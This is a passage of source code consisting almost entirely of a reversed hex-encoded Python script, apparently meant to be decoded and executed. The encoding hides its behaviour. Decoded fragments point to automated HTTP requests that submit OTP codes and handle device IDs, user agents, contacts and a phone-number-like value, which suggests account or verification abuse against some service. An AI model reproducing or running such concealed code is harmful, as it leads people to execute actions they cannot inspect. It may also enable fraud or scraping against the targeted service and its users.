2563696675644d28714220202020202020202a0c25627574716e676963702a3225627574716e6769635d2960714d28714220202020202020202a0c222d784455514f53494351424b7023696371624226602a322e6f6964716a79627f686475714220202020202020202a0c222272602c2564716c666564602c20796a7762202a32276e69646f636e654d2470756363614220202020202020202a0b702d3023727564616568602020202a0a0224696e65607f6d35607f6363762d747361647e6f636b7d347361647e6f636624627f67737371607d356079747f547e616277662d75646f636b7d35646f6366235d435d35607974547361647e6f636226602d3024616f6c697160702020202a0a0922235d4352202c25646f63602c247361647e6f63602c2e6769637f527f666f5374702c29756b6f5960716825627574716e6769637f5960716f5871602d3025627574716e676963702020202a0929253d337564757e696d6821647c6564656d6964702d2027347d676f577f6e682e6f6c6f636f54757f686479677f57347d676f5374702d302275646165686f5374702020202a0927347d676f577f6e682e6f6c6f636f54757f686479677f57347d676f5374702d302e6769637f527f666f5374702020202a092929273d3372757f686821647c6564656d696478256e6f6a756d696478277f6e6e256d696475647164602d3027347d676f577f6e602020202a0a0c42555f50545f4f54594d424553502d302c6275702020202a002020202a056e6f6e402e627574756270202020202020202a092224716d627f666025646f636020545f4024696c61667e694228247e69627070202020202020202a0a36302d31202925646f63682e656c60227f6025646f6360247f6e602669602020202a002020202a056e6f6e402e627574756270202020202020202a09222275626d657e6024696c61667e694228247e69627070202020202020202a0a39247361647e6f6368247361647e6f636f55647164696c616670247f6e602669602020202a0a39227473702a35646f63602c227473702a347361647e6f63602c227473702a39756b6f5960716820747f6f54796d626573702665646a002020202a056e6f6e402e627574756270202020202020202a09222d756b702a30545f40276e696473756571756270227f627275422668247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a0d5224696f52756269627363726573722b59746f626f5e6f637a602e627574756270202020202020202a00202020202020202a092225637e6f60737562702e6960246e657f6660247f6e60244940227562696273637265735228227f62727545657c61665025637961627020202020202020202020202a09292225637e6f60737562702e69602567616373756d60227f627275602f6e42202c22227f62727562282475676e29746f626f5e6f637a68247e6962707020202020202020202020202a0a39746f626f5e6f637a602e6960247f6e602224696f527562696273637265737220266960202020202020202a002020202a09247875647e25637e6f60737562782374616f6c6e2e6f637a602d3029746f626f5e6f637a60202020202020202a09247875647e25637e6f60737562702c2229746f626025637e6f607375627228247e69627070202020202020202a09276e6962747379727565717d337d61627160702c237275646165686d33727564616568602c24616f6c6971607d31647164602c2c6275702c222455474228247375657175627e25636e6164737e6944727f60737e616274502d3025637e6f6073756270202020202020202a0a397274702020202a09222e2e2e20545f40276e69647375657175625228247e696270702020202a0a0d702020202a0c2145502a32247e6567614d227563755220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5d4149434f55435142402a3224737f684220202020202020202a0c222e6f637a6f2e6f69647163696c60707162202a32256079745d247e65647e6f634220202020202020202a0c222449414055425052202a3225607974737265735d28714220202020202020202a0c24696f547375657175627f5871602a3224694d247375657175625d28714220202020202020202a0c22264533393e4d2d4352202a322c65646f6d4d2563696675644d247375657175625d28714220202020202020202a0c22276e65737d616372202a322563696675644d247375657175625d28714220202020202020202a0c24716f547375657175627f5871602a3224714d247375657175625d28714220202020202020202a0c20564f5851402a32247e6962707275676e69664d28714220202020202020202a0c24494f5543494655444f5851402a3224694d2563696675644d28714220202020202020202a0c222d784455514f53494351424b7023696371624226602a322e6f6964716a79627f686475714220202020202020202a0c222272602c2564716c666564602c20796a7762202a32276e69646f636e654d2470756363614220202020202020202a0b702d3023727564616568602020202a0222202d3024616f6c697160702020202a0a09292824346965757e2469657578227473702d3024696f547375657175627f5871602020202a0220303a37303b28373e26353a34333a32313450323d20313d2332303232202a34716d627f666023202029277f6e68207d616473756d69647f556b696c6f5166716a602d3024716f547375657175627f5871602020202a092929273d3372757f686821647c6564656d696478256e6f6a756d696478277f6e6e256d696475647164602d30277f6e602020202a002020202a0d702020202a0225637c616662202a32247361647e6f634564716e6275647c616220202020202020202a0c22235d4352202a3225607974547361647e6f636220202020202020202a0c247361647e6f63602a32247361647e6f636220202020202020202a0b702d30276e696274737972756571702020202a0a0c42555f50545f4f545547402d302c6275702020202a002020202a056e6f6e402e627574756270202020202020202a0a39247361647e6f6368247361647e6f636f55647164696c616670247f6e602669602020202a022736343938303639383738323632202a356c607d61687560247361647e6f634023202020202a0a327473702e3d2029227473702a347361647e6f636820747f6f547567602665646a0a05657274502e6275747562702020202a05637c6166402e627574756270202020202020202a09222275626d657e6024696c61667e694228247e69627070202020202020202a0a3431302e3029247361647e6f63682e656c60227f6029222832363228286479677374727164737e247361647e6f6360247f6e602669602020202a0a3c6f6f62602e3d2029227473702a347361647e6f6368247361647e6f636f55647164696c6166702665646a0a092221455228267e656475676e237f602d3021455a022e656b6f647f2473656e6e6f636d24696e65607f6f2c6f636f647f62707f2d6169636d2c687f237d6c6165627f22202b202c42555f5d4149434f55435142402d302c42555f50545f4f54594d4245535a092820766f58716f54616f6c602d3020564f58514a092824696f5563696675646f5871602d3024494f5543494655444f58514a0922284455514f53494351424228267e656475676e237f602d30284455514f53494351424a0220747f6f286475716f2d6169636d2c687f237d6c6165627f22202b202c42555f5d4149434f55435142402d302c42555f50545f4f5455474a0a092224756370247f6e60256c62616962716670247e656d6e6f6279667e65602c42555f5d4149434f5543514240227f602c42555f5940514f554351424228227f62727545657c6166502563796162702020202a0a3c42555f5d4149434f5543514240247f6e60227f602c42555f5940514f5543514240247f6e6026696a09222c42555f5d4149434f554351424228267e656475676e237f602d302c42555f5d4149434f554351424a09222c42555f5940514f554351424228267e656475676e237f602d302c42555f5940514f554351424a0a04696f5563696675646f5871602c20766f58716f54616f6c602c246c6569666f546564707972736e656f546c696572602c247e656d6971607f55627574716e6769637f587f547567602c29554b4f594051402c21647164687f54707972736564602c25627574716e6769637f5960716f5871602c2e6f6c6f636f54757f686479677f57347d676f5374702c207d616473756d69647f556b696c6f5166716a602c21647164687f5e67696374707972736e656024727f607d696024707972736e656e247e65696c636e207071602d6f62766a0a05636e6164737e694275636162745024727f607d6960276e69636162747e256369667275637e207071602d6f62766a05636e6164737e694568636163476f6c616471634024727f607d696025686361636f576f6c616471636e256369667275637e207071602d6f62766a05636e6164737e6944727f60737e6162745024727f607d696024727f60737e6162747e247e65696c636e207071602d6f62766a047e656d656c647475637f597669647f6e6024727f607d6960237b6f6f686e247e65696c636e207071602d6f62766a0a046564616f6c60256271602372716670267e6560256275737e65402320202769666e6f636e2070716024727f607d696a01647c6564656d6964702c256e6f6a756d6964702c256d6964756471646024727f607d6960256d696475647164602d6f62766a056d6964702c2374737565717562702c24696575702c2e6f637a602c237f6024727f607d696" ));